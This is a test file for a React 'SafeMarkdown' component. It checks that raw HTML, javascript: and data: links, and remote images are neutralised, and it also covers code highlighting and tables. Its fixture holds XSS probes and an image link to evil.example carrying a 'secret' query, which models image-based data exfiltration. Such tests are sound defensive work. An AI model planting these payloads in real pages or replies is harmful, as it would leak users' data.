import { cleanup, fireEvent, render, screen, waitFor } from '@testing-library/react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { SafeMarkdown } from './safe-markdown';

afterEach(cleanup);

const hostile = [
  'Hello <script>alert(1)</script> there.',
  '',
  '<img src=x onerror="alert(2)">',
  '',
  '[click me](javascript:alert(1)) and [data](data:text/html;base64,PHNjcmlwdD4=) and [inside](/admin/users)',
  '',
  '![](https://evil.example/?q=secret)',
  '',
  '[the docs](https://example.com/docs) or [mail us](mailto:help@example.com)',
].join('\n');

describe('SafeMarkdown', () => {
  it('shows raw HTML as text, never as elements', () => {
    const { container } = render(<SafeMarkdown text={hostile} />);
    expect(container.querySelector('script')).toBeNull();
    expect(container.querySelector('img')).toBeNull();
    expect(container.querySelector('[onerror]')).toBeNull();
    expect(container.textContent).toContain('<script>alert(1)</script>');
    expect(container.textContent).toContain('<img src=x onerror="alert(2)">');
  });

  it('drops javascript:, data: and relative links but keeps their text', () => {
    const { container } = render(<SafeMarkdown text={hostile} />);
    const hrefs = [...container.querySelectorAll('a:not(.image-placeholder)')].map((link) => link.getAttribute('href'));
    expect(hrefs).toEqual(['https://example.com/docs', 'mailto:help@example.com']);
    expect(container.innerHTML).not.toMatch(/javascript:|data:text/i);
    expect(screen.getByText('click me').tagName).toBe('SPAN');
    expect(screen.getByText('inside').closest('a')).toBeNull();
  });

  it('opens links in a new tab without telling the target where they came from', () => {
    render(<SafeMarkdown text={hostile} />);
    const link = screen.getByRole('link', { name: 'the docs' });
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(screen.getByRole('link', { name: 'mail us' }).getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('never loads a remote image in the page: it offers a link to open it in a new tab, naming the host', () => {
    const { container } = render(<SafeMarkdown text={hostile} />);
    const link = screen.getByRole('link', { name: /Open image .* from evil\.example in a new tab/ });

    fireEvent.click(link);

    expect(container.querySelector('img')).toBeNull();
    expect(link.getAttribute('href')).toBe('https://evil.example/?q=secret');
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('does not load an image by itself when the reply re-renders with more text', () => {
    const { container, rerender } = render(<SafeMarkdown text="![cat](https://img.example/cat.png)" />);
    rerender(<SafeMarkdown text={'![cat](https://img.example/cat.png)\n\nmore text'} />);
    expect(container.querySelector('img')).toBeNull();
    expect(screen.getByRole('link', { name: /Open image “cat” from img\.example/ })).toBeTruthy();
  });

  it('never offers to load an image from a non-web address', () => {
    const { container } = render(<SafeMarkdown text="![tracker](javascript:alert(1))" />);
    expect(container.querySelector('img')).toBeNull();
    expect(screen.queryByRole('link')).toBeNull();
    expect(container.textContent).toContain('tracker (image not shown)');
  });

  it('highlights a fenced code block and copies its text with the Copy button', async () => {
    const writeText = vi.fn(() => Promise.resolve());
    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
    const { container } = render(<SafeMarkdown text={'```js\nconst answer = 42;\nreturn answer;\n```'} />);

    expect(container.querySelector('pre code .hljs-keyword')?.textContent).toBe('const');
    expect(container.querySelector('.code-toolbar')?.textContent).toContain('js');
    fireEvent.click(screen.getByRole('button', { name: 'Copy' }));

    await waitFor(() => expect(writeText).toHaveBeenCalledWith('const answer = 42;\nreturn answer;'));
    const button = await screen.findByRole('button', { name: 'Copied' });
    // Said by a status of its own: a button is no live region.
    expect(button.hasAttribute('aria-live')).toBe(false);
    expect(screen.getByRole('status').textContent).toBe('Copied');
  });

  it('renders GitHub-flavoured tables and task lists', () => {
    const { container } = render(<SafeMarkdown text={'| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done'} />);
    expect(container.querySelectorAll('table td')).toHaveLength(2);
    expect(container.querySelector('input[type="checkbox"]')).not.toBeNull();
  });
});
